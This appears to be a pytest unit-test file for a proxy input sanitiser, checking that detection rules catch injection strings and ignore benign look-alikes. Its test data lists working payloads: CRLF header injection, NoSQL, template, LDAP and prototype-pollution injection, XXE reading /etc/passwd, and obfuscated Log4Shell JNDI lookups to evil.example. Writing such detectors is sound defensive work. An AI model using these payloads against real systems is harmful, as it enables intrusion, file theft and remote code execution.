from __future__ import annotations

import pytest

from proxy.sanitize import inspect
from tests.unit.sanitize.families import rules


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("a\0b", "encoding.null"),
        ("a%00b", "encoding.null"),
        ("..%c0%ae", "encoding.overlong"),
        ("x\r\nSet-Cookie: a=b", "header.split"),
        ("x%0d%0aLocation:%20http://evil.example", "header.split"),
        ("x\u560a\u560dSet-Cookie: a=b", "header.split"),
        ("\r\n\r\n<script>", "header.split"),
        ('{"$ne": null}', "nosql.operator"),
        ("user[$gt]=", "nosql.operator"),
        ("'; return true; var x='", "nosql.script"),
        ("' || this.password.match(/a/)//", "nosql.script"),
        ("{{7*7}}", "template.expression"),
        ("${7*7}", "template.expression"),
        ("<%= 7*7 %>", "template.expression"),
        ("{{config.items()}}", "template.expression"),
        ("{{''.__class__.__mro__[1]}}", "template.expression"),
        ("#{T(java.lang.Runtime).getRuntime()}", "template.expression"),
        ("*)(uid=*))(|(uid=*", "ldap.filter"),
        ("admin)(&)", "ldap.filter"),
        ("*)(objectClass=*", "ldap.filter"),
        ('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>', "xml.entity"),
        ("<!DOCTYPE x SYSTEM 'http://evil.example/x.dtd'>", "xml.entity"),
        ('<xi:include href="file:///x"/>', "xml.include"),
        ("${jndi:ldap://evil.example/a}", "lookup.jndi"),
        ("${${lower:j}ndi:rmi://x}", "lookup.jndi"),
        ("${${::-j}${::-n}${::-d}${::-i}:ldap://x}", "lookup.jndi"),
        ("${${env:X:-j}ndi${env:X:-:}ldap://x}", "lookup.jndi"),
        ("__proto__", "prototype.key"),
        ("constructor.prototype", "prototype.key"),
        ("a[constructor][prototype][x]", "prototype.key"),
    ],
)
def test_attacks_are_found_by_their_rules(text: str, rule: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "Dear {{name}},\nyour order {{ order_id }} is on its way",
            "costs $5 or $10",
            "f(x)(y)",
            "(a) & (b)",
            "${name}",
        ),
        *(
            "Subject: hello\r\nTo: you\r\n\r\nHi there",
            "first line\nsecond line",
            "a prototype of a car",
            "{a: 1, b: 2}",
        ),
        *(
            "${HOME}/bin",
            "we said: this.is.fine",
            "100 * (2 + 3)",
            "* one\n* two",
            "<!DOCTYPE html>",
            "e = m * c ^ 2",
            "$in",
            "*(note)",
        ),
    ],
)
def test_texts_with_the_same_marks_are_left_alone(text: str) -> None:
    assert rules(text) == set()


def test_an_operator_is_dangerous_as_a_name_only() -> None:
    assert rules("$ne") == set()
    assert [finding.rule.name for finding in inspect("$ne", name=True)] == ["nosql.operator"]
    assert inspect("price", name=True) == ()


def test_line_breaks_are_told_at_level_2() -> None:
    assert rules("a\nb") == set()
    assert rules("a\nb", paranoia=2) == {"header.break"}


def test_places_are_right_behind_a_letter_that_grows_in_lower_case() -> None:
    spans = {finding.rule.name: finding.span for finding in inspect("[\u0130*)\r", paranoia=3)}
    assert spans["ldap.filter"] == "*)\r"
